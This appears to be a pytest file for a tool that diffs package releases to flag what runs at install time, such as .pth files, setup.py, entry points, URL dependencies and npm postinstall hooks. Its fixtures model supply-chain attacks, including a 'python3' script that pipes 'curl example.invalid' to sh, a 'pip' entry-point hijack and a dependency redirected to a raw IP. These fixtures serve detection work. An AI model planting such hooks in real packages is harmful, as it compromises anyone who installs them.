"""Install-surface and metadata delta: the parts of a release that run at install time."""

import json

from app.core.diff.release import diff_artifacts
from tests.core.diff.fixtures import make_sdist, make_wheel, pkg_info


def surface(old, new):
    d = diff_artifacts(old, new, capabilities=False)
    return [(c.kind, c.change, c.name) for c in d.install_surface], d


def test_pth_setup_py_and_binary_are_reported(tmp_path):
    old = make_sdist(tmp_path, "demo", "1.0", {"setup.py": "setup()\n", "demo/a.py": "a\n"})
    new = make_sdist(
        tmp_path,
        "demo",
        "1.1",
        {
            "setup.py": "import os\nsetup()\n",
            "demo/a.py": "a\n",
            "demo_init.pth": "import demo._boot\n",
            "demo/_native.so": b"\x7fELF\x00" * 20,
        },
    )
    items, d = surface(old, new)
    assert ("pth", "added", "demo_init.pth") in items
    assert ("setup_py", "modified", "setup.py") in items
    assert ("binary", "added", "_native.so") in items
    pth = next(c for c in d.install_surface if c.kind == "pth")
    assert pth.new == "import demo._boot\n"


def test_build_system_and_entry_points_from_pyproject(tmp_path):
    old = make_sdist(
        tmp_path,
        "demo",
        "1.0",
        {
            "pyproject.toml": (
                "[build-system]\nrequires = ['setuptools']\nbuild-backend = 'setuptools.build_meta'\n"
                "[project]\nname = 'demo'\n[project.scripts]\ndemo = 'demo:main'\n"
            )
        },
    )
    new = make_sdist(
        tmp_path,
        "demo",
        "1.1",
        {
            "pyproject.toml": (
                "[build-system]\nrequires = ['setuptools', 'demo-helper']\n"
                "build-backend = 'backend'\nbackend-path = ['.']\n"
                "[project]\nname = 'demo'\n[project.scripts]\ndemo = 'demo:main'\npip = 'demo:evil'\n"
            )
        },
    )
    items, _ = surface(old, new)
    assert ("build_settings", "modified", "requires") in items
    assert ("build_settings", "modified", "build-backend") in items
    assert ("build_settings", "added", "backend-path") in items
    assert ("entry_point", "added", "console_scripts/pip") in items
    assert not any(i[2] == "console_scripts/demo" for i in items)


def test_dependencies_added_removed_and_turned_into_url(tmp_path):
    old = make_sdist(
        tmp_path,
        "demo",
        "1.0",
        {
            "PKG-INFO": pkg_info(
                "demo",
                "1.0",
                ("Requires-Dist: requests>=2\nRequires-Dist: six\nRequires-Dist: idna<4"),
            )
        },
    )
    new = make_wheel(
        tmp_path,
        "demo",
        "1.1",
        {
            "demo-1.1.dist-info/METADATA": pkg_info(
                "demo",
                "1.1",
                (
                    "Requires-Dist: requests @ https://203.0.113.5/requests.whl\n"
                    "Requires-Dist: idna<5\nRequires-Dist: colorama; os_name == 'nt'"
                ),
            ),
            "demo/__init__.py": "",
        },
    )
    items, d = surface(old, new)
    assert ("dependency", "url", "requests") in items
    assert ("dependency", "removed", "six") in items
    assert ("dependency", "modified", "idna") in items
    assert ("dependency", "added", 'colorama; os_name == "nt"') in items
    url = next(c for c in d.install_surface if c.change == "url")
    assert "203.0.113.5" in url.new and url.old == ">=2"


def test_npm_scripts_and_url_dependencies(tmp_path):
    def pkg(version, scripts, deps):
        return {
            "package/package.json": json.dumps(
                {"name": "left-pad", "version": version, "scripts": scripts, "dependencies": deps}
            )
        }

    old_files = pkg("1.0.0", {"test": "node t.js"}, {"lodash": "^4.17.0"})
    new_files = pkg(
        "1.0.1",
        {"test": "node t.js", "postinstall": "node x.js"},
        {"lodash": "github:someone/lodash#main"},
    )
    old = make_sdist(tmp_path, "p", "1", {k.split("/", 1)[1]: v for k, v in old_files.items()})
    new = make_sdist(tmp_path, "p", "2", {k.split("/", 1)[1]: v for k, v in new_files.items()})
    items, d = surface(old, new)
    assert ("npm_script", "added", "postinstall") in items
    post = next(c for c in d.install_surface if c.name == "postinstall")
    assert "runs at npm install" in post.detail and post.new == "node x.js"
    assert ("dependency", "url", "lodash") in items


def test_metadata_changes_author_home_page_project_urls(tmp_path):
    old = make_sdist(
        tmp_path,
        "demo",
        "1.0",
        {
            "PKG-INFO": pkg_info(
                "demo",
                "1.0",
                (
                    "Author: Alice\nHome-page: https://example.invalid/demo\n"
                    "Project-URL: Source, https://example.invalid/src"
                ),
            )
        },
    )
    new = make_sdist(
        tmp_path,
        "demo",
        "1.1",
        {
            "PKG-INFO": pkg_info(
                "demo",
                "1.1",
                (
                    "Author: Mallory\nMaintainer: Mallory\nHome-page: https://example.invalid/demo\n"
                    "Project-URL: Source, https://example.invalid/fork"
                ),
            )
        },
    )
    meta = diff_artifacts(old, new, capabilities=False).metadata
    assert {"field": "author", "change": "modified", "old": "Alice", "new": "Mallory"} in meta
    assert {"field": "maintainer", "change": "added", "old": None, "new": "Mallory"} in meta
    assert any(m["field"] == "project-url:Source" and m["new"].endswith("/fork") for m in meta)
    assert not any(m["field"] == "home-page" for m in meta)


def test_wheel_data_scripts_are_entry_points(tmp_path):
    meta = {"demo-1.0.dist-info/METADATA": pkg_info("demo", "1.0"), "demo/__init__.py": ""}
    old = make_wheel(tmp_path, "demo", "1.0", meta)
    new = make_wheel(
        tmp_path,
        "demo",
        "1.1",
        {**meta, "demo-1.0.data/scripts/python3": "#!/bin/sh\ncurl example.invalid | sh\n"},
    )
    items, _ = surface(old, new)
    assert ("entry_point", "added", "python3") in items
